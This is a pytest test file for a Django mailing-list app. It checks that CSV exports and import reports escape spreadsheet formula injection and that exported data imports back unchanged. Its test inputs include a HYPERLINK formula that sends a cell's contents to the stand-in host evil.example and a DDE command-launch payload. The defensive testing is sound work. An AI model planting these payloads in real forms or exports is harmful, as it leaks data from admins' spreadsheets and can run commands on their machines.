"""Exports a spreadsheet opens as data: a name typed into the public form never becomes a live
formula in the admin's spreadsheet, and an export imports back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from subscribers import csvsafe
from subscribers.importer import export_csv, import_csv
from subscribers.models import MailingList, Subscriber

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
# What a spreadsheet runs: a cell starting with one of these.
LIVE = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("start", LIVE)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(start):
    assert csvsafe.escape(f"{start}1+1") == f"'{start}1+1"
    assert csvsafe.unescape(f"'{start}1+1") == f"{start}1+1"


def test_other_cells_are_left_alone():
    for value in ["Grace Kim", "grace@example.com", "'quoted", "", "2026-11-24T06:00:00+00:00"]:
        assert csvsafe.escape(value) == value and csvsafe.unescape(value) == value
    assert csvsafe.escape(-5) == -5 and csvsafe.escape(None) is None


@given(st.text())
def test_escape_is_safe_and_unescape_undoes_it(value):
    written = csvsafe.escape(value)
    assert not written.startswith(LIVE)
    assert csvsafe.unescape(written) == value


@pytest.fixture
def morning(db):
    cache.clear()
    return MailingList.objects.create(
        name="Morning", slug="morning-en", from_email="m@news.example.com"
    )


def _names(text: str) -> list[str]:
    return [row["name"] for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))]


def test_a_formula_typed_into_the_subscribe_form_is_exported_as_text(morning, admin_client):
    response = Client().post(
        "/subscribe/morning-en/", {"email": "mallory@example.com", "name": HYPERLINK}
    )
    assert response.status_code == 200
    assert Subscriber.objects.get().name == HYPERLINK  # stored as typed

    admin = admin_client.get(f"/admin/subscribers/mailinglist/{morning.pk}/export/")
    from_admin = b"".join(admin.streaming_content).decode()
    out = io.StringIO()
    call_command("subscribers", "export", "--list", "morning-en", stdout=out)
    for text in (from_admin, out.getvalue()):
        assert _names(text) == ["'" + HYPERLINK]


def test_a_tab_before_a_formula_is_kept_and_an_export_imports_back_unchanged(morning, tmp_path):
    members = tmp_path / "members.csv"
    members.write_text(
        "email,name\r\n"
        "tab@example.com,\t=1+1\r\n"
        "-dash@example.com,@SUM(A1)\r\n"
        "quote@example.com,'=1+1\r\n"  # text, as a spreadsheet reads it: "=1+1"
        "apostrophe@example.com,'Tis Kim\r\n",
        encoding="utf-8",
    )
    report = import_csv(members, morning, user="test")
    assert report.created == 4 and report.rejected == 0
    names = dict(Subscriber.objects.values_list("email", "name"))
    assert names == {
        "tab@example.com": "\t=1+1",  # not stripped into a live "=1+1"
        "-dash@example.com": "@SUM(A1)",
        "quote@example.com": "=1+1",
        "apostrophe@example.com": "'Tis Kim",
    }
    exported = tmp_path / "export.csv"
    with open(exported, "w", newline="", encoding="utf-8-sig") as f:
        export_csv(morning, f)
    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8-sig"))))
    assert [(r["email"], r["name"]) for r in rows] == [
        ("tab@example.com", "'\t=1+1"),
        ("'-dash@example.com", "'@SUM(A1)"),
        ("quote@example.com", "'=1+1"),
        ("apostrophe@example.com", "'Tis Kim"),
    ]
    # The export read back: the same people, nothing to change.
    again = import_csv(exported, morning, user="test")
    assert again.unchanged == 4 and again.created == again.updated == again.rejected == 0
    evening = MailingList.objects.create(name="Evening", slug="evening", from_email="e@x.com")
    assert import_csv(exported, evening, user="test").created == 4
    assert dict(Subscriber.objects.values_list("email", "name")) == names


def test_the_import_report_escapes_the_values_it_repeats(morning, tmp_path):
    members = tmp_path / "members.csv"
    members.write_text("email,name\r\n=cmd|' /C calc'!A0,x\r\n", encoding="utf-8")
    report_file = tmp_path / "report.csv"
    out = io.StringIO()
    call_command(
        "subscribers",
        "import",
        str(members),
        "--list",
        "morning-en",
        "--report",
        str(report_file),
        stdout=out,
    )
    rows = list(csv.reader(io.StringIO(report_file.read_text(encoding="utf-8-sig"))))
    assert rows[1][:2] == ["2", "'=cmd|' /C calc'!A0"]
    assert "line 2: \"=cmd|' /C calc'!A0\"" in out.getvalue()  # the screen shows the value
